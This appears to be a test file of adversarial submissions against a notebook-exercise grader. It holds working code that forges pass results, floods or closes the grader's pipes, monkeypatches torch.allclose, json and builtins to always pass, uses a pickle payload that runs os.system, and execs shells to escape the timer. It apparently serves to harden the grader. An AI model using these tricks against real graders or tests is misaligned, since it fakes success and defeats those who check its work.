"""Submissions that forge a result: through the pipe on which it is sent, or by what makes it.

Each cell is a submission of its own, behind the lines above the first one.
"""

import contextlib
import ctypes
import json
import os
import platform
import re
import signal
import stat
import sys
import tempfile
import time
import types


def found_mark():
    """The mark with which a frame begins, wherever it is in this process."""
    frame, mark = sys._getframe(), b""
    while frame:
        for value in list(frame.f_locals.values()):
            if isinstance(value, bytes) and re.fullmatch(rb"[0-9a-f]{32}", value):
                mark = value
        frame = frame.f_back
    return mark


def send(claim):
    """Write a frame to every descriptor, whole, and end."""
    mark = found_mark()
    for number in range(3, 256):
        whole = memoryview(mark + b"%016x" % len(claim) + claim)
        with contextlib.suppress(OSError):
            while whole:
                whole = whole[os.write(number, whole) :]
    os._exit(0)


# %% forge_with_the_mark
"""Find the mark of the frames in this process, and send a result of its own: what comes out is a claim.

Harm: the grader believes what it says.
"""

send(json.dumps({"failed": [], "observation": {"forged": True}}).encode())


# %% forge_json * 6
"""Send what is no JSON; is so deep, wide, long or large a number that reading it takes all; or is of another form.

Harm: the grader fails on it, runs out of memory or time, or believes it; the next one gets nothing.
"""

WIDE = b'{"failed": [], "observation": {"x": ['
CLAIMS = (
    lambda: b'{"failed": [], ' + b"\xff\xfe",
    lambda: b"[" * 1_000_000 + b"]" * 1_000_000,
    lambda: WIDE + b"[]," * 2_000_000 + b"[]]}}",
    lambda: WIDE + b"[]," * 20_000_000 + b"[]]}}",
    lambda: b"[" + b"9" * 1_000_000 + b"]",
    lambda: b'{"failed": [{"cell": "all of them"}], "observation": {"passed": true}}',
)
send(CLAIMS[VARIANT]())


# %% forge_half_a_frame
"""Begin a frame that never ends, and wait, so that the reader waits too.

Harm: the grader waits for the rest, and the next one with it.
"""

for number in range(3, 256):
    with contextlib.suppress(OSError):
        os.write(number, found_mark() + b"%016x" % 1000 + b"[")
time.sleep(1000)


# %% forge_with_a_guess
"""Write to every descriptor what looks like a good result, with marks that might be the right ones.

Harm: the guess is right, and the grader believes what it says.
"""

FORGED = json.dumps({"failed": [], "observation": {"forged": True}}).encode()
for mark in (b"", b"0" * 32, b"f" * 32, os.urandom(16).hex().encode()):
    for number in range(256):
        with contextlib.suppress(OSError):
            os.set_blocking(number, False)
            os.write(number, mark + b"%016x" % len(FORGED) + FORGED)


def paired(*given):
    return []


# %% flood_the_channel
"""Write without end to every descriptor.

Harm: the grader reads without end, or the next one's answer is lost in the flood.
"""

while True:
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(number, b"0123456789abcdef" * 65536)


# %% close_the_channel_and_stay
"""Close every descriptor, so that nobody waits for a result, and never end.

Harm: it runs on when nobody reads any more, or the silence is taken for a right answer.
"""

os.closerange(0, 1024)
while True:
    pass


# %% patch_everything
"""Replace what sends the result: json, os.write, builtins, the module pytest, and torch's comparisons.

Harm: what it says passes, or the next one meets what was replaced.
"""

import builtins

import torch

torch.allclose = torch.equal = lambda *_, **__: True
sys.modules["pytest"] = types.ModuleType("pytest")
json.dumps = lambda *_, **__: '{"failed": [], "observation": {"passed": true}}'
json.JSONEncoder.encode = lambda *_: '{"failed": [], "observation": {"passed": true}}'
os.write = lambda *_: 1 << 30
builtins.isinstance = lambda *_: True
builtins.len = lambda *_: 0


# %% patch_the_library
"""Replace what observes: the library's functions, in their modules and in their own code.

Harm: what it says passes, or the next one meets what was replaced.
"""

import fxbook.learning.sheets
import fxbook.observing.observe
from fxbook import check

fxbook.observing.observe.observe = lambda *_: {"passed": True}
fxbook.learning.sheets.observe_answer.__code__ = (lambda *_: {"failed": [], "observation": None}).__code__
for name, module in list(sys.modules.items()):
    if name.startswith("fxbook"):
        vars(module).clear()
check.passed = True


# %% objects_that_lie
"""Return objects that lie about their class, are equal to everything, and act when they are pickled or printed.

Harm: a lie is believed, or something of it runs where it is read, and makes a file.
"""

ANSWERS = "no report"


class Liar(dict):
    __class__ = property(lambda self: list)

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0

    def __len__(self):
        return -1

    def __iter__(self):
        return iter(range(10**9))

    def __repr__(self):
        raise SystemExit

    def __reduce__(self):
        return os.system, ("touch /tmp/by-an-attack",)


class Text(str):
    def __len__(self):
        return 0


def paired(*given):
    return [Liar, Text("x" * 1000), lambda: 0, {Liar: 1}, (object(), 1j, {1, 2}), float("nan")]


# %% start_a_program
"""Become another program: a shell, what calls a shell, Python, a file of its own; by a path and by a descriptor.

Harm: another program runs. It tells of itself through the pipe that it takes over: the answer says which it is.
"""

# The shell does it by itself: a process of its own might be refused.
TELL = 'for number in 3 4 5 6 7 8 9; do printf %s "$FRAME" >&$number; done'
OWN = f"{tempfile.gettempdir()}/own"
PROGRAMS = (
    ("/bin/sh", "-c", TELL),
    ("/usr/bin/env", "sh", "-c", TELL),
    ("/usr/bin/bwrap", "--bind", "/", "/", "sh", "-c", TELL),
    ("/lib64/ld-linux-x86-64.so.2", "/bin/sh", "-c", TELL),
    (sys.executable, "-c", f"import os; os.execv('/bin/sh', ['sh', '-c', {TELL!r}])"),
    (OWN,),
)
MARK = found_mark().decode()


def pipes():
    found = []
    for number in range(3, 4096):
        with contextlib.suppress(OSError):
            found += [number] * stat.S_ISFIFO(os.fstat(number).st_mode)
    return found[:7]  # A shell can name those from 3 to 9.


def surroundings(name):
    claim = json.dumps({"failed": [], "observation": {"cases": [{"value": [f"{name} runs"]}]}})
    return {"PATH": "/usr/bin:/bin", "FRAME": f"{MARK}{len(claim):016x}{claim}"}


def paired(*given):
    with open(OWN, "w") as file:
        file.write(f"#!/bin/sh\n{TELL}\n")
    os.chmod(OWN, 0o755)
    for number, pipe in enumerate(pipes(), 3):
        os.dup2(pipe, number, inheritable=True)
    # The clock of the answer goes on in another program, and its alarm would end it.
    with contextlib.suppress(OSError):
        signal.setitimer(signal.ITIMER_REAL, 0)
    for program in PROGRAMS:
        with contextlib.suppress(OSError):
            os.execve(program[0], program, surroundings(program[0]))
        with contextlib.suppress(OSError):
            os.execve(os.open(program[0], os.O_RDONLY), program, surroundings(program[0]))
    arguments = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", TELL.encode(), None)
    told = [f"{name}={value}".encode() for name, value in surroundings("execveat").items()]
    number = 322 if platform.machine() == "x86_64" else 281
    ctypes.CDLL(None).syscall(number, -100, b"/bin/sh", arguments, (ctypes.c_char_p * 3)(*told, None), 0)
    return []
